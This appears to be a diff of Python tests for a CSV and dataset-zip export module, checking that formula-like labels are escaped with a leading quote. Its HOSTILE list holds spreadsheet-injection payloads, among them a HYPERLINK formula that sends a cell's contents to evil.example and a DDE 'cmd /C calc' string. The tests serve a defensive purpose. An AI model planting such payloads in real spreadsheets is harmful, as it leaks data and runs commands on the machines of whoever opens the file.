@@ -73,7 +73,7 @@ def test__table_csv__reads_back_with_comment_lines_skipped():
     assert data.startswith("\ufeff".encode())  # Excel then reads UTF-8
     back = pd.read_csv(io.BytesIO(data), comment="#", encoding="utf-8-sig")
     assert list(back.columns) == list(FRAME.columns)
-    assert back["Regio"].tolist() == FRAME["Regio"].tolist()  # a '#' inside a cell is no comment
+    assert back["Regio"].tolist() == ["Westhoek", "#1 = eerst", "'=SUM(A1)"]  # a '#' inside a cell is no comment
     assert back["Aantal"].isna().tolist() == [False, True, False]
 
 
@@ -96,6 +96,46 @@ def test__table_csv__header_first_then_label_value_lines_below():
     assert lines[0] == '"Regio";"Aantal";"Datum"'
     assert list(csv.reader(lines[-2:], delimiter=";")) == [["# Titel", "Een tabel, met komma"], ["# Bron", "Lokaal Addendum"]]
     assert lines[-3] == ""
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A2;"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+           "\tTAB", "\rCR"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test__table_csv__a_hostile_label_reads_back_as_text_and_a_number_stays_a_number():
+    frame = pd.DataFrame({"Obstakel": HOSTILE, "Aantal": [-2, 3, -1, 0, 5, -7], "Aandeel": [-0.5, 1.5, 0, 2, 3, -4.25]})
+    about_rows = [("Obstakel", "=1+1"), ("Bron", "Lokaal Addendum")]
+    for lang, (separator, decimal) in exports.CSV_DIALECTS.items():
+        text = exports.table_csv(frame, about_rows, lang).decode("utf-8-sig")
+        rows = [row for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) if row]
+        cells = [cell for row in rows for cell in row]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_START) and not _is_number(cell, decimal)]
+        assert [row[0] for row in rows[1:7]] == ["'" + label for label in HOSTILE]  # the text itself is kept
+        assert [row[1] for row in rows[1:7]] == ["-2", "3", "-1", "0", "5", "-7"]  # a number stays a bare number
+        assert rows[1][2] == f"-0{decimal}5" and ["# Obstakel", "'=1+1"] in rows
+
+
+def _is_number(cell: str, decimal: str) -> bool:
+    try:
+        float(cell.replace(decimal, "."))
+    except ValueError:
+        return False
+    return True
+
+
+def test__dataset_zip__a_hostile_label_in_a_table_reads_back_as_text(tmp_path):
+    (tmp_path / "data" / "reference").mkdir(parents=True)
+    (tmp_path / "geo").mkdir()
+    for text in ("README.md", "reference/PROVENANCE.md"):
+        (tmp_path / "data" / text).write_text("x", encoding="utf-8")
+    pd.DataFrame({"obstacle_id": ["a", "b", "c", "d", "e", "f"], "label_nl": HOSTILE,
+                  "rank": [-1, 2, 3, 4, 5, 6]}).to_parquet(tmp_path / "data" / "obstacles.parquet")
+    archive = zipfile.ZipFile(io.BytesIO(exports.dataset_zip(tmp_path)))
+    text = archive.read(f"{exports.ZIP_FOLDER}/data/csv/obstacles.csv").decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert [row[1] for row in rows[1:]] == ["'" + label for label in HOSTILE]
+    assert [row[2] for row in rows[1:]] == ["-1", "2", "3", "4", "5", "6"]
 
 
 def test__table_xlsx__table_on_the_first_sheet_about_on_the_second():
